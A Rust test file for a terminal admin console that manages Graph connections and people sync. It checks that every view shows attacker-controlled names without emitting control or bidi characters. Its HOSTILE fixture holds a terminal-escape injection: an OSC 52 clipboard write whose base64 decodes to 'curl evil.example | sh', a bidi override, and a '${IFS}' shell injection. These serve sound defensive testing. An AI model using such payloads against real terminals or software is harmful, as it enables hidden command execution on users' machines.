//! Tests: every pane and popup drawn from hostile fixture state puts no control or bidi character in any cell.

use std::sync::Arc;

use proptest::prelude::*;
use ratatui::Terminal;
use ratatui::backend::TestBackend;

use super::action::Action;
use super::keymap::{KeyChord, Keymap};
use super::people_index::UserRow;
use super::profile::{ActualProfile, Candidate, ExplainRow, ExplainView};
use super::propagation::{Provenance, check_view};
use super::state::{AppState, Message, Popup, SessionInfo, SyncRun};
use super::theme::Theme;
use super::update::update;
use crate::auth::claims::{TokenInfo, TokenKind};
use crate::graph::connections::{ConnectionState, ExternalConnection};
use crate::graph::sources::ProfileSource;
use crate::ops::propagation::Ledger;
use crate::ops::remove::RemovePlan;
use crate::ops::snapshot::{ConnectionView, PrecedenceSetting, Snapshot};
use crate::ops::{StepReport, StepStatus};
use crate::people::compose::Rule;
use crate::people::precedence::PrecedenceList;
use crate::people::schema::Contract;
use crate::sync::state::{CheckRecord, LedgerEntry};
use crate::text::is_unsafe;

/// What an attacker who may create a connection or register a source puts in names: an OSC 52
/// clipboard write, a window title, a screen clear, a bidi override, a C1 CSI, shell syntax.
const HOSTILE: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2J\u{202e}evil\u{2066}\u{9b}31m;touch${IFS}/tmp/x;#";

fn url(id: &str) -> String {
    format!("https://graph.microsoft.com/v1.0/admin/people/profileSources(sourceId='{id}')")
}

fn snapshot(text: &str) -> Snapshot {
    let connection = |id: &str| ConnectionView {
        connection: ExternalConnection {
            id: id.into(),
            name: text.into(),
            description: Some(text.into()),
            state: ConnectionState::Draft,
            content_category: Some(text.into()),
            configuration: None,
            ingested_items_count: Some(3),
        },
        schema: None,
        schema_error: Some(text.into()),
        contract: Contract::Labels,
        schema_problems: Vec::new(),
        failed_operation: Some(crate::graph::connections::PublicError {
            code: Some(text.into()),
            message: Some(text.into()),
            target: Some(text.into()),
        }),
        operations: Vec::new(),
    };
    let source = |id: &str| ProfileSource {
        id: None,
        source_id: id.into(),
        display_name: Some(text.into()),
        kind: Some(text.into()),
        web_url: Some(text.into()),
        localizations: Vec::new(),
    };
    let evil_id = format!("hr{text}");
    Snapshot {
        connections: vec![connection(&evil_id), connection("contosohr")],
        sources: vec![source(&evil_id), source("orphan\x1b[2J")],
        precedence: Some(PrecedenceSetting {
            id: "s1".into(),
            list: PrecedenceList::from_urls([url(&evil_id), url("orphan\x1b[2J"), text.to_owned()]),
        }),
        work: None,
        overdue: Vec::new(),
    }
}

fn base(text: &str, size: (u16, u16)) -> AppState {
    let mut s = AppState::new(
        SessionInfo {
            tenant: text.into(),
            graph_host: text.into(),
            ..SessionInfo::default()
        },
        Arc::new(Keymap::default()),
        Theme::default(),
        size,
    );
    update(&mut s, Action::SnapshotLoaded(Ok(Arc::new(snapshot(text)))));
    update(
        &mut s,
        Action::IdentityLoaded(Ok(Some(TokenInfo {
            kind: TokenKind::Delegated,
            identity: text.into(),
            tenant_id: Some(text.into()),
            permissions: vec![text.into()],
            expires_at: None,
        }))),
    );
    let user = |n: usize| UserRow {
        id: format!("u{n}").into(),
        user_principal_name: format!("{n}{text}@contoso.com").into(),
        display_name: Some(text.into()),
        job_title: Some(text.into()),
        department: Some(text.into()),
    };
    update(
        &mut s,
        Action::UsersPage {
            rows: (0..3).map(user).collect(),
            done: true,
        },
    );
    s
}

fn keys(s: &mut AppState, keys: &str) {
    for k in keys.split(' ') {
        update(s, Action::Key(KeyChord::parse(k).expect("key")));
    }
}

fn type_text(s: &mut AppState, text: &str) {
    for c in text.chars() {
        update(s, Action::Key(KeyChord::char(c)));
    }
}

fn steps(text: &str) -> Vec<StepReport> {
    ["precedence", "profileSource", "connection"]
        .iter()
        .map(|step| StepReport {
            step: (*step).into(),
            status: StepStatus::Planned,
            detail: text.into(),
        })
        .collect()
}

/// Every view the console has, reached the way an admin reaches it, with `text` in the data.
fn scenarios(text: &str, size: (u16, u16)) -> Vec<(&'static str, AppState)> {
    let s = base(text, size);
    let with = |f: &dyn Fn(&mut AppState)| {
        let mut s = s.clone();
        f(&mut s);
        s
    };
    let mut out = vec![
        ("connections", s.clone()),
        ("connection detail", with(&|s| keys(s, "enter"))),
        (
            "connections filter",
            with(&|s| {
                keys(s, "/");
                type_text(s, text);
            }),
        ),
        ("sources", with(&|s| keys(s, "2"))),
        ("sources, orphan selected", with(&|s| keys(s, "2 j"))),
        ("edit source", with(&|s| keys(s, "2 e"))),
        ("precedence", with(&|s| keys(s, "3"))),
        ("precedence staged", with(&|s| keys(s, "3 J"))),
        ("apply confirmation", with(&|s| keys(s, "3 J a"))),
        ("move to rank", with(&|s| keys(s, "3 m"))),
        ("people", with(&|s| keys(s, "4"))),
        (
            "people search",
            with(&|s| {
                keys(s, "4 /");
                type_text(s, "1");
            }),
        ),
        (
            "profile",
            with(&|s| {
                keys(s, "4 enter");
                let upn = s
                    .people
                    .profile
                    .as_ref()
                    .map(|p| p.upn.clone())
                    .unwrap_or_default();
                let candidate = |won: bool| Candidate {
                    source: text.into(),
                    source_id: Some(text.into()),
                    rank: Some(1),
                    value: text.into(),
                    won,
                    // Untrusted too: the reason quotes what Graph said.
                    ignored: (!won).then(|| text.into()),
                };
                let row = ExplainRow {
                    label: text.into(),
                    path: text.into(),
                    value: text.into(),
                    source: text.into(),
                    source_id: Some(text.into()),
                    rank: Some(1),
                    others: vec![format!("{text}: {text}")],
                    candidates: vec![candidate(true), candidate(false)],
                    rule: Rule::HighestRank,
                    actual: Some(format!("{text}!")),
                    item: None,
                };
                let item = ExplainRow {
                    item: Some((0, 1)),
                    rule: Rule::OrderedUnion,
                    ..row.clone()
                };
                update(
                    s,
                    Action::ExplainLoaded {
                        upn: upn.clone(),
                        result: Ok(Arc::new(ExplainView {
                            upn,
                            display_name: text.into(),
                            rows: vec![row, item],
                            sources: vec![text.into()],
                            actual: ActualProfile::Failed(text.into()),
                        })),
                    },
                );
            }),
        ),
        (
            "syncs",
            with(&|s| {
                keys(s, "5");
                let id = format!("hr{text}");
                s.syncs.runs.insert(
                    id.clone(),
                    SyncRun {
                        connection: id,
                        input: text.into(),
                        phase: crate::sync::Phase::Validating,
                        progress: None,
                        issues: vec![crate::sync::Issue {
                            file: text.into(),
                            line: Some(2),
                            column: Some(text.into()),
                            reason: text.into(),
                            kind: crate::sync::IssueKind::Invalid,
                            item_id: None,
                        }],
                        throttled: 0,
                        cancelling: false,
                        report: Some(Err(text.into())),
                        started: std::time::Duration::ZERO,
                        ended: None,
                    },
                );
            }),
        ),
        ("syncs propagation", with(&|s| hostile_check(s, text))),
        (
            "propagation list",
            with(&|s| {
                hostile_check(s, text);
                keys(s, "w j");
            }),
        ),
        (
            "profile ledger lines",
            with(&|s| {
                keys(s, "4 enter");
                let upn = s
                    .people
                    .profile
                    .as_ref()
                    .map(|p| p.upn.clone())
                    .unwrap_or_default();
                update(
                    s,
                    Action::ExplainLoaded {
                        upn: upn.clone(),
                        result: Ok(Arc::new(ExplainView {
                            upn: upn.clone(),
                            display_name: text.into(),
                            rows: Vec::new(),
                            sources: vec![text.into()],
                            actual: ActualProfile::Compared,
                        })),
                    },
                );
                let ledger = hostile_ledger(text);
                let line = |entry, check| Provenance {
                    connection: text.into(),
                    entry,
                    check,
                    read_at: 2_000,
                };
                update(
                    s,
                    Action::ProvenanceLoaded {
                        upn,
                        result: vec![
                            line(
                                Ok(ledger.entries[0].clone()),
                                Some(ledger.previous[0].clone()),
                            ),
                            line(Ok(ledger.entries[1].clone()), None),
                            line(Err(text.into()), None),
                        ],
                    },
                );
            }),
        ),
        (
            "removal review",
            with(&|s| {
                keys(s, "d");
                update(
                    s,
                    Action::RemovePlanned(Ok(Box::new(RemovePlan {
                        connection: text.into(),
                        rank: Some(1),
                        source: None,
                        existing_connection: None,
                        steps: steps(text),
                        impact: None,
                    }))),
                );
            }),
        ),
        (
            "removal failed to plan",
            with(&|s| {
                keys(s, "d");
                update(s, Action::RemovePlanned(Err(text.into())));
            }),
        ),
        ("register", with(&|s| keys(s, "R"))),
        (
            "new connection",
            with(&|s| {
                keys(s, "n");
                type_text(s, text);
            }),
        ),
        ("help", with(&|s| keys(s, "?"))),
        (
            "palette",
            with(&|s| {
                keys(s, ":");
                type_text(s, text);
            }),
        ),
        (
            "message",
            with(&|s| {
                s.popups.push(Popup::Message(Message {
                    title: text.into(),
                    lines: vec![text.into(), text.into()],
                    error: true,
                }));
            }),
        ),
        (
            "device code",
            with(&|s| {
                update(
                    s,
                    Action::SignInPrompt(crate::auth::device_code::DeviceCodePrompt {
                        user_code: text.into(),
                        verification_uri: text.into(),
                        message: text.into(),
                        expires_in: 900,
                    }),
                );
            }),
        ),
        (
            "status line",
            with(&|s| {
                update(s, Action::SourceUpdated(Err(text.into())));
            }),
        ),
        (
            "snapshot failed",
            with(&|s| {
                update(s, Action::SnapshotLoaded(Err(text.into())));
            }),
        ),
        ("connection in full", with(&|s| keys(s, "v"))),
        ("source in full", with(&|s| keys(s, "2 j v"))),
        (
            "precedence entry in full",
            with(&|s| keys(s, "3 j j enter")),
        ),
        ("person in full", with(&|s| keys(s, "4 v"))),
        ("session", with(&|s| keys(s, "i"))),
        (
            "message log",
            with(&|s| {
                update(s, Action::SourceUpdated(Err(text.into())));
                keys(s, "L");
            }),
        ),
        (
            "message in full",
            with(&|s| {
                s.popups.push(Popup::Message(Message {
                    title: text.into(),
                    lines: vec![text.into(), text.into()],
                    error: true,
                }));
                keys(s, "v");
            }),
        ),
        (
            "palette objects",
            with(&|s| {
                keys(s, ":");
                type_text(s, "connection ");
            }),
        ),
        (
            "columns scrolled and sorted",
            with(&|s| keys(s, "right > S")),
        ),
    ];
    // Views opened from the ones above.
    let derived: Vec<(&'static str, AppState)> = out
        .iter()
        .filter_map(|(name, st)| {
            let (derived, k) = match *name {
                "profile" => ("profile property in full", "j enter"),
                "syncs" => ("sync run in full", "v"),
                "propagation list" => ("propagation list in full", "v"),
                _ => return None,
            };
            let mut st = st.clone();
            keys(&mut st, k);
            Some((derived, st))
        })
        .collect();
    out.extend(derived);
    out
}

/// A ledger and last check whose UPNs, file names and errors are `text`: one person pending,
/// one whose last attempt failed.
fn hostile_ledger(text: &str) -> Ledger {
    let entry = |id: &str, hash: Option<&str>| LedgerEntry {
        item_id: id.into(),
        hash: hash.map(Into::into),
        landed_at: Some(1_000),
        last_error: hash.is_none().then(|| text.into()),
        file: Some(format!("/{text}/{text}.csv")),
        line: Some(7),
        run_id: Some(1),
    };
    let record = |id: &str, state: &str, reason: Option<&str>| CheckRecord {
        item_id: id.into(),
        upn: format!("{text}@{text}"),
        hash: Some("h".into()),
        state: state.into(),
        reason: reason.map(Into::into),
        seen_at: None,
        checked_at: 1_500,
    };
    Ledger {
        entries: vec![entry("a", Some("h")), entry("b", None)],
        previous: vec![
            record("a", "pending", None),
            record("b", "notSynced", Some("failed")),
        ],
    }
}

/// The Syncs pane with a last check of hostile people, and a check that failed with `text`.
fn hostile_check(s: &mut AppState, text: &str) {
    // The Syncs pane lists people connections that can take items.
    let mut snap = snapshot(text);
    for c in &mut snap.connections {
        c.connection.state = ConnectionState::Ready;
        c.connection.content_category = Some("people".into());
    }
    update(s, Action::SnapshotLoaded(Ok(Arc::new(snap))));
    keys(s, "5");
    let Some(id) = s.sync_connections().first().cloned() else {
        return;
    };
    let ledger = hostile_ledger(text);
    let view = check_view(&id, &ledger, None, 2_000).map(Arc::new);
    update(s, Action::ChecksLoaded(vec![(id.clone(), Ok(view))]));
    if let Some(c) = s.syncs.checks.get_mut(&id) {
        c.error = Some(text.into());
    }
}

type Screen = Vec<Vec<String>>;

fn draw(state: &AppState) -> Screen {
    let (w, h) = state.size;
    let mut term = Terminal::new(TestBackend::new(w, h)).expect("backend");
    term.draw(|f| super::ui::draw_unscrubbed(f, state))
        .expect("draw");
    let buf = term.backend().buffer();
    (0..h)
        .map(|y| (0..w).map(|x| buf[(x, y)].symbol().to_owned()).collect())
        .collect()
}

/// The first unsafe character drawn, with where and in which scenario.
fn first_unsafe(name: &str, screen: &Screen) -> Option<String> {
    for (y, row) in screen.iter().enumerate() {
        for (x, symbol) in row.iter().enumerate() {
            if symbol.chars().any(is_unsafe) {
                return Some(format!("{name}: cell ({x},{y}) holds {symbol:?}"));
            }
        }
    }
    None
}

fn text_of(screen: &Screen) -> String {
    screen.iter().map(|r| r.concat() + "\n").collect()
}

#[test]
fn every_view_shows_hostile_names_inertly() {
    for size in [(80, 24), (60, 20), (160, 48)] {
        let mut seen_osc52 = 0;
        for (name, state) in scenarios(HOSTILE, size) {
            let screen = draw(&state);
            assert_eq!(first_unsafe(name, &screen), None);
            let text = text_of(&screen);
            if text.contains("␛]52;c;") {
                seen_osc52 += 1;
            }
        }
        // Not a vacuous pass: the hostile names are on screen, visibly, in most views.
        assert!(
            seen_osc52 >= 15,
            "{seen_osc52} views at {size:?} show the name"
        );
    }
}

#[test]
fn the_propagation_views_show_hostile_upns_file_names_and_errors_visibly() {
    let scenarios = scenarios(HOSTILE, (160, 48));
    for view in [
        "syncs propagation",
        "propagation list",
        "profile ledger lines",
    ] {
        let (_, state) = scenarios
            .iter()
            .find(|(name, _)| *name == view)
            .expect("a scenario");
        let text = text_of(&draw(state));
        assert!(
            text.contains("␛]52;c;"),
            "{view}: the hostile text is shown:\n{text}"
        );
        let ours = match view {
            "syncs propagation" => "Is it live yet",
            "propagation list" => "not synced",
            _ => "sync ledger unreadable",
        };
        assert!(text.contains(ours), "{view}: {ours} in\n{text}");
    }
    let (_, list) = scenarios
        .iter()
        .find(|(name, _)| *name == "propagation list")
        .expect("the list");
    assert!(matches!(list.popups.last(), Some(Popup::Propagation(_))));
}

#[test]
fn the_connections_pane_shows_the_name_and_the_bidi_override_visibly() {
    let state = base(HOSTILE, (160, 48));
    let text = text_of(&draw(&state));
    assert!(text.contains("␛]52;c;Y3Vy"), "{text}");
    let mut detail = state.clone();
    keys(&mut detail, "enter");
    let text = text_of(&draw(&detail));
    assert!(text.contains("\\u{202e}evil\\u{2066}\\u{9b}31m"), "{text}");
}

#[test]
fn the_last_guard_scrubs_what_slips_through() {
    // A draw function that forgot the sanitiser: `ui::draw` still emits nothing unsafe.
    let mut term = Terminal::new(TestBackend::new(20, 2)).expect("backend");
    term.draw(|f| {
        f.render_widget(ratatui::widgets::Paragraph::new(HOSTILE), f.area());
        super::widgets::scrub(f.buffer_mut());
    })
    .expect("draw");
    let buf = term.backend().buffer();
    assert!(
        !buf.content
            .iter()
            .any(|c| c.symbol().chars().any(is_unsafe))
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    /// Any text, any terminal from 20 to 200 columns: every view draws without a panic, nothing
    /// unsafe in a cell, and no row wider than the terminal.
    #[test]
    fn any_text_draws_safely_at_any_width(
        text in crate::text::tests::hostile_text(),
        long in any::<bool>(),
        w in 20u16..=200,
        h in 6u16..=60,
    ) {
        let text = if long { text.repeat(10_000 / text.len().max(1) + 1) } else { text };
        for (name, state) in scenarios(&text, (w, h)) {
            let screen = draw(&state);
            prop_assert_eq!(first_unsafe(name, &screen), None);
            for row in &screen {
                let used: usize = row
                    .iter()
                    .map(|s| unicode_width::UnicodeWidthStr::width(s.as_str()).max(1))
                    .sum();
                // Cells after a wide character hold a blank the terminal never draws.
                let wide = row
                    .iter()
                    .filter(|s| unicode_width::UnicodeWidthStr::width(s.as_str()) > 1)
                    .map(|s| unicode_width::UnicodeWidthStr::width(s.as_str()) - 1)
                    .sum::<usize>();
                prop_assert!(used - wide.min(used) <= usize::from(w), "{}: a row is {} wide", name, used - wide);
            }
        }
    }
}
